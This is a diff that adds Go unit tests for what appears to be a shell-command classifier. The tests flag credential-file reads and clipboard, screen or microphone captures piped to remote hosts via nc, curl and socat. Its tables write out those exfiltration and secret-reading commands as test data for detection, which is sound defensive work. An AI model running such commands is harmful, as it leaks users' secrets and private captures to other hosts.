@@ -225,3 +225,81 @@ func TestFirewallStateAndMacDisks(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestNamedSecretDataPrinted: a data file whose name says it holds a
+// credential, printed, is secret-read (heldout9 v0453 "cat
+// config/token.json": an OAuth token store, as Google's API quickstarts
+// name it; heldout10 w0441 "cat secret-string.txt"). The family is the
+// credential words of a name (token, secret, password, credentials,
+// creds, api key, access key, private key, client secret) in a data file
+// (.txt, .json, .yaml, .yml, .csv, .toml, .ini, .xml, .dat), printed by
+// a program that prints its files. Everyday beside them: /etc/passwd
+// and PAM's files (heldout6, dev4: no secret), names where the word
+// qualifies another (a password policy, a token schema), templates and
+// samples, source code.
+func TestNamedSecretDataPrinted(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`cat config/token.json`, SecretRead},
+		{`cat secret-string.txt`, SecretRead},
+		{`head -n 5 api_keys.csv`, SecretRead},
+		{`less passwords.txt`, SecretRead},
+		{`cat access_keys.txt`, SecretRead},
+		{`tail client_secret.json`, SecretRead},
+		{`bat db-credentials.yaml`, SecretRead},
+		{`cat /tmp/creds.txt`, SecretRead},
+		{`strings private_key.dat`, SecretRead},
+		{`cat /etc/passwd`, ""},
+		{`cat /etc/pam.d/common-password`, ""},
+		{`cat iam-password-policy.txt`, ""},
+		{`cat token-schema.json`, ""},
+		{`cat secrets.example.yaml`, ""},
+		{`cat token_test.go`, ""},
+		{`cat password_reset.html`, ""},
+		{`cat tokenizer.json`, ""},
+		{`wc -l passwords.txt`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestCapturesPipedToTheNetwork: what only the user's session holds —
+// the clipboard, the screen, the microphone — sent to another host is
+// network-exfiltration, as a file's content piped into nc is (heldout9
+// v0036 "xclip -o … | nc target_ip 1234"); served to whoever connects,
+// a desktop is too (README's first call: serving a desktop is
+// network-exfiltration; heldout9 v0690 "ffmpeg -f x11grab … - | nc -l -p
+// 1234"). Members, from their manuals: clipboard readers xclip -o,
+// xsel -o (and its default output), pbpaste, wl-paste,
+// termux-clipboard-get; screen grabs to standard output: ffmpeg -f
+// x11grab|avfoundation|kmsgrab|fbdev|gdigrab, ImageMagick's import -window
+// root, grim -, xwd -root; the microphone: arecord, ffmpeg -f alsa|pulse.
+// Everyday beside them (README: clipboards and screenshots themselves are
+// everyday): a capture saved to a file, one piped into a local program.
+func TestCapturesPipedToTheNetwork(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`xclip -o -selection clipboard | nc target_ip 1234`, NetworkExfiltration},
+		{`pbpaste | nc 10.0.0.1 4444`, NetworkExfiltration},
+		{`xsel -ob | curl -T - https://x.example/up`, NetworkExfiltration},
+		{`wl-paste | socat - TCP:10.0.0.1:80`, NetworkExfiltration},
+		{`termux-clipboard-get | ncat 10.0.0.1 80`, NetworkExfiltration},
+		{`ffmpeg -f x11grab -video_size 1920x1080 -i :0.0 -f mpegts - | nc -l -p 1234`, NetworkExfiltration},
+		{`ffmpeg -f x11grab -i :0.0 -f mpegts - | nc 10.0.0.1 9000`, NetworkExfiltration},
+		{`import -window root png:- | nc 10.0.0.1 80`, NetworkExfiltration},
+		{`grim - | nc 10.0.0.1 80`, NetworkExfiltration},
+		{`xwd -root | nc 10.0.0.1 80`, NetworkExfiltration},
+		{`arecord -f cd | nc 10.0.0.1 80`, NetworkExfiltration},
+		{`ffmpeg -f pulse -i default -f mp3 - | nc 10.0.0.1 80`, NetworkExfiltration},
+		{`xclip -o -selection clipboard > clip.txt`, ""},
+		{`pbpaste | wc -l`, ""},
+		{`ffmpeg -f x11grab -i :0.0 out.mp4`, ""},
+		{`ffmpeg -i in.mp4 -f mpegts - | nc 10.0.0.1 9000`, ""},
+		{`import -window root shot.png`, ""},
+		{`echo hi | nc -l -p 1234`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
